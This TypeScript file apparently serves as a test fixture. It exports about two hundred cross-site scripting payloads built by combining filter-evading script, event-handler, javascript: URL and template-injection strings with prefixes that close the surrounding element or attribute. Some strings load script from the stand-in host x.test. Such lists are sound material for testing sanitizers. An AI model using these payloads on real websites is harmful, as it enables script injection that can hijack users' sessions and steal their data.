/** Markup that makes a page run code. Each variant evades a different kind of filter. */
const runs = [
  '<script>run()</script>',
  '<ScRiPt>run()</sCrIpT>',
  '<script src=//x.test></script>',
  '</script><script>run()</script>',
  '</title><script>run()</script>',
  '</textarea><script>run()</script>',
  '</style><script>run()</script>',
  '--><script>run()</script>',
  ']]><script>run()</script>',
  '<img src=x onerror=run()>',
  '<img/src/onerror=run()>',
  '<svg onload=run()>',
  '<svg><script>run()</script></svg>',
  '<body onload=run()>',
  '<iframe src=javascript:run()>',
  '<iframe srcdoc="<script>run()</script>">',
  '<object data=javascript:run()>',
  '<embed src=javascript:run()>',
  '<a href=javascript:run()>x</a>',
  '<form action=javascript:run()><button>',
  '<button formaction=javascript:run()>',
  '<input autofocus onfocus=run()>',
  '<details open ontoggle=run()>',
  '<video><source onerror=run()>',
  '<math><mi xlink:href=javascript:run()>',
  '<style>@import "javascript:run()"</style>',
  '<link rel=stylesheet href=//x.test>',
  '<base href=//x.test/>',
  '<meta http-equiv=refresh content=0;url=//x.test>',
  '<template><script>run()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=run()>">',
  '<!--<img src="--><img src=x onerror=run()>">',
  '{{constructor.constructor("run()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that other engines would evaluate
  '${run()}',
  '[x](javascript:run())',
  '![x](x"onerror="run())',
  'javascript:run()',
  'data:text/html,<script>run()</script>',
  '&lt;script&gt;run()&lt;/script&gt;',
  '&#60;script&#62;run()&#60;/script&#62;',
];

/** Unless escaped, these close the surrounding element or attribute, so that markup can follow. */
const escapes = ['', '"><i>', "'><i>", '" onmouseover="run()" x="', '\u2028</script>'];

/** About two hundred strings, each short enough to be a title. */
export const payloads: string[] = escapes.flatMap((end) => runs.map((run) => end + run));
